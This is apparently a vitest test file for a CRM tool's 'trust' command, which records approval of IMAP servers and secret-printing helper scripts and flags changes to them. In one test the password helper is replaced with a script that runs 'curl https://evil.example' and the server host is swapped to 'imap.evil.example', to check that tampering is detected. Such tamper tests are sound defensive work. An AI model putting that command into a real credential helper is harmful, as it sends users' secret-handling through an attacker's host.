import { appendFileSync, chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { argvText } from '../../../src/app/outbox/ways/mail.ts';
import type { RunOptions, TestWorkspace } from '../../harness.ts';
import { workspace } from '../../harness.ts';

const FETCH = `mail:
  fetch: { host: imap.example.com, user: sales, password-command: [./secret.sh, sales] }
`;

interface Item {
  readonly id: string;
  readonly kind: string;
  readonly what: string;
  readonly state: string;
}

const on = (ws: TestWorkspace): RunOptions => ({ env: { XDG_STATE_HOME: `${ws.dir}.machine` } });
const trust = async (ws: TestWorkspace, args = '') => {
  const { out } = await ws.crm(`trust ${args} --json`, on(ws));
  return JSON.parse(out) as Item[];
};
const states = async (ws: TestWorkspace) => (await trust(ws, '--show')).map(({ state }) => state).sort();

async function withServer(): Promise<TestWorkspace> {
  const ws = await workspace('empty');
  appendFileSync(join(ws.dir, 'crm.yaml'), FETCH);
  writeFileSync(join(ws.dir, 'secret.sh'), '#!/bin/sh\necho secret\n');
  chmodSync(join(ws.dir, 'secret.sh'), 0o755);
  return ws;
}

test('a workspace that reaches nothing needs no trust', async () => {
  const ws = await workspace('empty');
  expect(await ws.crm('trust', on(ws))).toMatchObject({
    code: 0,
    out: '',
    err: 'nothing to trust: this workspace reaches no server and runs no program\n',
  });
});

test('shows new items, trusts them with --yes, and remembers them for this user alone', async () => {
  const ws = await withServer();
  expect(await trust(ws, '--show')).toMatchObject([
    { kind: 'IMAP server', what: 'imap.example.com:993 (tls)', state: 'new' },
    {
      kind: 'secret',
      what: 'password of sales at imap.example.com:993: printed by ./secret.sh sales',
      state: 'new',
    },
  ]);
  const asked = await ws.crm('trust', on(ws));
  expect([asked.code, asked.err]).toEqual([2, expect.stringContaining('--yes trusts all of them')]);
  expect((await ws.crm('trust --dry-run --yes', on(ws))).err).toContain('would ask for 2 items');
  expect(await states(ws)).toEqual(['new', 'new']);
  expect(await ws.crm('trust --yes', on(ws))).toMatchObject({ code: 0 });
  expect(await states(ws)).toEqual(['trusted', 'trusted']);
  expect(statSync(`${ws.dir}.machine/crm/trust.json`).mode & 0o777).toBe(0o600);
  expect((await ws.crm('trust', on(ws))).err).toBe(
    'nothing new: 2 items trusted on this machine (crm trust --show)\n',
  );
});

test('asks for each item on a terminal: no to one of them leaves that one alone', async () => {
  const ws = await withServer();
  const questions: string[] = [];
  const ran = await ws.crm('trust', {
    ...on(ws),
    tty: 100,
    typed: question => {
      questions.push(question);
      return question.includes('server') ? 'y\r' : 'n\r';
    },
  });
  expect(questions).toHaveLength(2);
  expect(ran.out).toContain('password of sales at imap.example.com:993');
  expect([ran.code, ran.err]).toEqual([1, expect.stringContaining('1 item not trusted')]);
  expect(await states(ws)).toEqual(['new', 'trusted']);
});

test('asks again for exactly what changed', async () => {
  const ws = await withServer();
  await ws.ok('trust --yes', on(ws));
  writeFileSync(join(ws.dir, 'secret.sh'), '#!/bin/sh\ncurl https://evil.example\n');
  expect((await trust(ws, '--show')).map(({ kind, state }) => [kind, state])).toEqual([
    ['secret', 'changed'],
    ['IMAP server', 'trusted'],
    ['secret', 'unused'],
  ]);
  const yaml = readFileSync(join(ws.dir, 'crm.yaml'), 'utf8');
  writeFileSync(join(ws.dir, 'crm.yaml'), yaml.replace('imap.example.com,', 'imap.evil.example,'));
  expect(await states(ws)).toEqual(['new', 'new', 'unused', 'unused']);
});

test('revokes one item or all', async () => {
  const ws = await withServer();
  await ws.ok('trust --yes', on(ws));
  expect((await ws.crm('trust --revoke nothing', on(ws))).code).toBe(2);
  await ws.ok('trust --revoke --dry-run', on(ws));
  expect((await ws.crm('trust --revoke server', on(ws))).err).toBe(
    'no longer trusted: IMAP server imap.example.com:993 (tls)\n',
  );
  expect(await states(ws)).toEqual(['new', 'trusted']);
  await ws.ok('trust --revoke', on(ws));
  expect(await states(ws)).toEqual(['new', 'new']);
});

test('a copy elsewhere has no trust, and only users who may change settings decide', async () => {
  const ws = await withServer();
  await ws.ok('trust --yes', on(ws));
  const other = { env: { XDG_STATE_HOME: `${ws.dir}.other` } };
  expect((await ws.crm('trust --show --json', other)).json<Item[]>().map(({ state }) => state)).toEqual([
    'new',
    'new',
  ]);
  await ws.ok('user add ada --role admin');
  await ws.ok('user add ben --role normal --as ada');
  expect(await ws.crm('trust --yes --as ben', on(ws))).toMatchObject({ code: 1, out: '' });
});

test('shows a command as a person reads it', () => {
  expect(argvText(['pass', 'show', 'mail/smtp', 'a b'])).toBe('pass show mail/smtp "a b"');
});
